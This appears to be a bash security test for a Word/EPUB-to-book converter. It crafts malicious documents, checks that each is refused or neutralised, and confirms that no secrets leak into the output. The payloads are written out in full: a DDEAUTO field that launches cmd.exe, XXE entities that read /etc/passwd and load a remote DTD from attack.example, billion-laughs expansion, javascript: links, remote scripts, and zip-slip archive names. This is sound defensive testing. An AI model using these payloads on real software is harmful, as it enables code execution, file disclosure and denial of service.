#!/bin/bash
# Word and EPUB files that are made to hurt: links that run something, pictures and templates from elsewhere, fields that
# start programs, scripts, entities of the machine's files, names in the archive that lead out of it, books inside books.
# Each is read or refused with a message; nothing of it is active in the books, and nothing is written but the books.
set -eu
# shellcheck source=/dev/null
. "$SOURCE_DIR/tests/attacks/lib.sh"
make_archive=$(dirname "$BRIEFBOOK")/tests/make-archive
attacks=0 refused=0 names=
sources=()
sentence='Một đoạn văn bình thường, đủ dài để người đọc nhận ra đây là bài thật chứ không phải thứ gì khác.'
echo 'zzmat: nothing of this file may be in a book' >secret.txt
mkdir -p in word/_rels word/media META-INF OPS

# take FILE: it is read, and stands in the book, or refused with a message.
take() {
    attacks=$((attacks + 1))
    if timeout 60 "$BRIEFBOOK" ingest "$1" >one.json 2>one.err; then
        sources+=("$1")
    else
        grep -q 'error: ' one.err || fail "$1: refused without a word"
        refused=$((refused + 1))
        names="$names $1"
    fi
}

# ---- Word ----

# word NAME BODY RELATIONSHIPS [PART...]: a document of these
word() {
    printf '%s<w:document xmlns:w="w" xmlns:r="r" xmlns:a="a" xmlns:wp="wp" xmlns:v="v" xmlns:o="o"><w:body><w:p><w:pPr><w:pStyle w:val="Title"/></w:pPr><w:r><w:t>Bài %s</w:t></w:r></w:p><w:p><w:r><w:t>%s</w:t></w:r></w:p>%s</w:body></w:document>' \
        "${before:-}" "$1" "$sentence" "$2" >word/document.xml
    printf '<Relationships>%s</Relationships>' "$3" >word/_rels/document.xml.rels
    "$make_archive" "in/$1.docx" word/document.xml word/_rels/document.xml.rels "${@:4}"
    take "in/$1.docx"
}
text() { printf '<w:p><w:r><w:t>%s</w:t></w:r></w:p>' "$1"; }
i=0
while IFS= read -r target; do
    i=$((i + 1))
    word "link-$i" "<w:p><w:hyperlink r:id=\"r1\"><w:r><w:t>Xem</w:t></w:r></w:hyperlink></w:p>" \
        "<Relationship Id=\"r1\" Target=\"$target\" TargetMode=\"External\"/>"
    word "picture-$i" '<w:p><w:r><w:drawing><wp:inline><wp:docPr descr="Ảnh"/><a:blip r:embed="r1" r:link="r1"/></wp:inline></w:drawing></w:r></w:p>' \
        "<Relationship Id=\"r1\" Target=\"$target\"/>"
done <<'TARGETS'
javascript:alert(1)
java&#9;script:alert(1)
&#1;javascript:alert(1)
vbscript:msgbox(1)
data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;
file:///etc/passwd
//attack.example/a.png
\\attack.example\share\a.png
https://attack.example/a.png
../../secret.txt
../../../../../../etc/passwd
/etc/passwd
media/../../secret.txt
C:\secret.txt
media/none%00.png
TARGETS
while IFS= read -r field; do
    i=$((i + 1))
    word "field-$i" "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>$field</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>Kết quả</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p><w:p><w:fldSimple w:instr=\"$field\"><w:r><w:t>Kết quả</w:t></w:r></w:fldSimple></w:p>" ''
done <<'FIELDS'
DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot;
DDE excel sheet a1
INCLUDEPICTURE &quot;https://attack.example/a.png&quot; \d
INCLUDETEXT &quot;secret.txt&quot;
IMPORT secret.txt
HYPERLINK &quot;javascript:alert(1)&quot;
HYPERLINK &quot;file:///etc/passwd&quot;
MACROBUTTON AutoOpen Xem
FIELDS
echo '<html><body><script src="https://attack.example/a.js"></script><p>zzhtml</p></body></html>' >word/a.html
echo 'Attribute VB_Name = "zzmacro"' >word/vbaProject.bin
echo '<w:settings xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="r1"/></w:settings>' >word/settings.xml
echo '<Relationships><Relationship Id="r1" Target="https://attack.example/a.dotm" TargetMode="External"/></Relationships>' >word/_rels/settings.xml.rels
word chunk '<w:altChunk r:id="r1"/>' '<Relationship Id="r1" Target="a.html"/>' word/a.html
word template '' '' word/settings.xml word/_rels/settings.xml.rels
word macro '' '<Relationship Id="r1" Target="vbaProject.bin"/>' word/vbaProject.bin
word object '<w:p><w:r><w:object><v:shape><v:imagedata r:id="r1" o:href="https://attack.example/a.png"/></v:shape><o:OLEObject Type="Link" ProgID="Package" r:id="r1"/></w:object></w:r></w:p>' \
    '<Relationship Id="r1" Target="file:///etc/passwd" TargetMode="External"/>'
before='<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "../secret.txt">]>' word entity "$(text '&e;&f;')" ''
before='<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>' \
    word lol "$(text '&d;&d;&d;&d;')" ''
before='<?xml-stylesheet href="https://attack.example/a.xsl"?>' word sheet "$(text 'x <![CDATA[<script>alert(1)</script>]]>')" ''
word include '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="../secret.txt" parse="text"/>' ''

# ---- names in the archive ----

printf '%s' "$sentence" >plain
ln -s ../secret.txt linked
word names '' '' ../../escaped.txt=plain /tmp/briefbook-attack=plain 'C:\escaped.txt=plain' '..\escaped.txt=plain' "$(printf 'word/\342\200\256fdp.exe')=plain" linked
word links '<w:p><w:r><w:drawing><wp:inline><a:blip r:embed="r1"/></wp:inline></w:drawing></w:r></w:p>' '<Relationship Id="r1" Target="media/a.png"/>' word/media/a.png=linked
"$make_archive" in/twice.docx word/document.xml word/document.xmk=plain word/_rels/document.xml.rels
LC_ALL=C sed -i 's/document\.xmk/document.xml/g' in/twice.docx
take in/twice.docx
"$make_archive" in/zero.docx word/document.xml word/media/zzz.png=plain word/_rels/document.xml.rels
LC_ALL=C sed -i 's/zzz\.png/z\x00z.png/g' in/zero.docx
take in/zero.docx

# ---- EPUB ----

printf 'application/epub+zip' >mimetype
# book NAME BODY [ITEM...]: an EPUB of one document, with these in its manifest; the parts stand in `parts`
book() {
    printf '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="%s" media-type="application/oebps-package+xml"/></rootfiles></container>' \
        "${root:-OPS/p.opf}" >META-INF/container.xml
    printf '%s<package xmlns="http://www.idpf.org/2007/opf" xmlns:dc="http://purl.org/dc/elements/1.1/"><metadata><dc:title>%s</dc:title></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml" properties="scripted remote-resources"/>%s</manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>' \
        "${before:-}" "${title:-Sách}" "${3:-}" >OPS/p.opf
    printf '%s<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="e"><head><title>Bài</title>%s</head><body><h1>Bài %s</h1><p>%s</p>%s<p>%s</p></body></html>' \
        "${before_page:-}" "${head:-}" "$1" "$sentence" "$2" "$sentence" >OPS/a.xhtml
    # shellcheck disable=SC2086 # a word for each part
    "$make_archive" "in/$1.epub" mimetype META-INF/container.xml OPS/p.opf OPS/a.xhtml ${parts:-}
    take "in/$1.epub"
}
book script '<script>alert(1)</script><script src="https://attack.example/a.js"/><p onclick="alert(1)">Bấm</p>'
book frame '<iframe src="https://attack.example/"/><object data="../../secret.txt"/><embed src="file:///etc/passwd"/>'
book remote '<img src="https://attack.example/a.png" alt="x"/><audio src="https://attack.example/a.mp3"/><video poster="//attack.example/a.png"/>'
book outside '<img src="../../../../../../etc/passwd" alt="x"/><img src="/etc/passwd" alt="y"/><img src="file:///etc/passwd" alt="z"/>'
book links '<p><a href="javascript:alert(1)">a</a> <a href="data:text/html,x">b</a> <a href="file:///etc/passwd">c</a> <a href="../../secret.txt">d</a> <a href="vbscript:x">e</a></p>'
book drawing '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a><image xlink:href="https://attack.example/a.png"/></svg>'
book formula '<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" href="javascript:alert(1)"><mtext>x</mtext></maction><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>'
book switch '<epub:switch><epub:case required-namespace="x"><script>alert(1)</script></epub:case></epub:switch><epub:trigger action="play" ref="x"/>'
book form '<form action="https://attack.example/"><input type="password" autofocus="" onfocus="alert(1)"/><button formaction="javascript:alert(1)">Gửi</button></form>'
head='<style>@import url(https://attack.example/a.css); p{background:url(//attack.example/b.png);behavior:url(x)}</style><link rel="stylesheet" href="https://attack.example/c.css"/><meta http-equiv="refresh" content="0;url=javascript:alert(1)"/><base href="https://attack.example/"/>' book style '<p style="background:url(https://attack.example/d.png)">x</p>'
before='<!DOCTYPE html [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://attack.example/a.dtd">%p;]>' book entity '<p>x</p>'
before_page='<!DOCTYPE html [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "../secret.txt"><!ENTITY % p SYSTEM "https://attack.example/a.dtd">%p;]>' book entity-page '<p>&e;&f;</p>'
before_page='<!DOCTYPE html [<!ENTITY a "zzgrow zzgrow "><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>' book lol-page '<p>&c;&c;</p>'
title='&lt;/dc:title&gt;&lt;meta refines="x"/&gt;' book title '<p>x</p>'
root=../../../../etc/passwd book root '<p>x</p>'
root=/etc/passwd book absolute '<p>x</p>'
for target in ../../secret.txt file:///etc/passwd https://attack.example/b.xhtml %2e%2e/%2e%2e/secret.txt OPS/none.xhtml a.xhtml; do
    i=$((i + 1))
    book "item-$i" '<p>x</p>' "<item id=\"b\" href=\"$target\" media-type=\"application/xhtml+xml\"/>"
done
parts='OPS/b.epub=in/script.epub' book inner '<p><a href="b.epub">Sách trong sách</a></p>' '<item id="b" href="b.epub" media-type="application/epub+zip"/>'
parts='OPS/b.xhtml=linked' book link-inside '<p>x</p>' '<item id="b" href="b.xhtml" media-type="application/xhtml+xml"/>'
parts='META-INF/encryption.xml=OPS/a.xhtml META-INF/rights.xml=plain' book locked '<p>x</p>'

build all "${sources[@]}"
check_book all
unzip -qo all.epub -d all.x
pdftotext -enc UTF-8 all.pdf all.txt
if grep -raElq 'zzmat|zzmacro|zzgrow|root:x:' all.x all.txt all.pdf; then
    fail "a file that an article names is in the book: $(grep -raEl 'zzmat|zzmacro|zzgrow|root:x:' all.x all.txt all.pdf | head -3)"
fi
for escaped in escaped.txt ../escaped.txt ../../escaped.txt /tmp/briefbook-attack pwned; do
    [ ! -e "$escaped" ] || fail "$escaped was written"
done
echo "$attacks attacks, $refused of them refused"
# A package and a document of Word may have no entities of their own, a name may stand in an archive once, and a package has
# to be in it: what else is refused would have hidden its attack.
[ "$names" = ' in/entity.docx in/lol.docx in/twice.docx in/entity.epub in/root.epub in/absolute.epub' ] || fail "refused:$names"
[ "$attacks" -ge 60 ] || fail "only $attacks attacks"
done_with_book
